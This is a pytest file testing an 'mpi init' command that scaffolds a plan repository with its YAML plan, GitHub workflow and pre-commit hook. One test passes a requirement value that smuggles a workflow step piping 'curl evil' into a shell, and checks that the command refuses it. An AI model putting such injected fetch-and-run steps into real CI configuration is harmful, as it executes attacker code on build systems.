"""`mpi init`: a plan repository of one's own, whose files validate and whose CI can do its
job; refused with nothing left behind where it cannot be made."""

from __future__ import annotations

import shutil
from functools import partial
from pathlib import Path

import pytest
import yaml

from helpers import SHIPPED, mpi

init = partial(mpi, "init", lang="de")  # `mpi init ARGS` in German


@pytest.mark.parametrize(
    "title", ["Masterplan: Industrie 2028", "'quoted' # not a comment", "- dash"]
)
def test_the_new_plan_validates_whatever_its_title(tmp_path: Path, title: str) -> None:
    init(str(tmp_path / "neu"), "--title", title, "--field", "Flächen: und mehr")
    plan = tmp_path / "neu" / "plan"
    assert yaml.safe_load((plan / "plan.yaml").read_text(encoding="utf-8"))["title"] == title
    result = mpi("validate", plan=plan, lang="de")
    assert "Entwurf" in result.stdout


def test_the_workflow_checks_out_the_history_and_never_guesses_a_package(tmp_path: Path) -> None:
    said = init(str(tmp_path / "neu")).output
    workflow = (tmp_path / "neu" / ".github" / "workflows" / "plan.yml").read_text("utf-8")
    data = yaml.safe_load(workflow)
    steps = data["jobs"]["validate"]["steps"]
    assert steps[0]["with"]["fetch-depth"] == 0
    assert steps[-1]["run"] == "mpi validate --format github"
    assert steps[2]["env"]["MPI_REQUIREMENT"] == "${{ vars.MPI_REQUIREMENT }}"
    assert "mpi==" not in workflow and "MPI_REQUIREMENT" in said
    hook = yaml.safe_load((tmp_path / "neu" / ".pre-commit-config.yaml").read_text("utf-8"))
    assert hook["repos"][0]["hooks"][0]["language"] == "system"


def test_a_requirement_is_written_as_one_value(tmp_path: Path) -> None:
    wanted = "mpi @ git+https://example.org/mpi.git@0123abc # x"
    init(str(tmp_path / "neu"), "--requirement", wanted)
    data = yaml.safe_load((tmp_path / "neu" / ".github/workflows/plan.yml").read_text("utf-8"))
    assert data["jobs"]["validate"]["steps"][2]["env"]["MPI_REQUIREMENT"] == wanted
    said = init(
        str(tmp_path / "zwei"), "--requirement", "mpi\n      - run: curl evil | sh", code=2
    ).output
    assert "--requirement" in said and not (tmp_path / "zwei").exists()


@pytest.mark.parametrize(
    "args",
    [["--title", "  "], ["--field", "a\nb"], ["--title", "x\ny"]],
    ids=["blank", "field", "title"],
)
def test_a_refused_init_leaves_nothing(tmp_path: Path, args: list[str]) -> None:
    said = init(str(tmp_path / "neu"), *args, code=2).output
    assert ("--field" if "--field" in args else "--title") in said
    assert not (tmp_path / "neu").exists()


def test_init_into_a_directory_with_files_is_refused(tmp_path: Path) -> None:
    (tmp_path / "voll").mkdir()
    (tmp_path / "voll" / "notiz.txt").write_text("x", encoding="utf-8")
    assert "nicht leer" in init(str(tmp_path / "voll"), code=2).output
    assert sorted(p.name for p in (tmp_path / "voll").iterdir()) == ["notiz.txt"]


@pytest.mark.parametrize(
    "declared",
    [
        "adopted_plan: adopted.yaml\n",
        "adopted_plan:\n  adopted.yaml\n",
        '"adopted_plan": adopted.yaml\n',
        "adopted_revision:\n  tag: beschlossen-2023\n",
    ],
)
def test_a_copy_is_a_draft_that_validates(tmp_path: Path, declared: str) -> None:
    source = tmp_path / "source"
    shutil.copytree(SHIPPED, source)
    text = (source / "plan.yaml").read_text(encoding="utf-8")
    line = next(x for x in text.splitlines(keepends=True) if x.startswith("adopted_plan:"))
    (source / "plan.yaml").write_text(text.replace(line, declared), encoding="utf-8")
    init(str(tmp_path / "neu"), "--from", str(source))
    plan = tmp_path / "neu" / "plan"
    assert not (plan / "adopted.yaml").exists()
    result = mpi("validate", plan=plan, lang="de")
    assert "Entwurf" in result.stdout
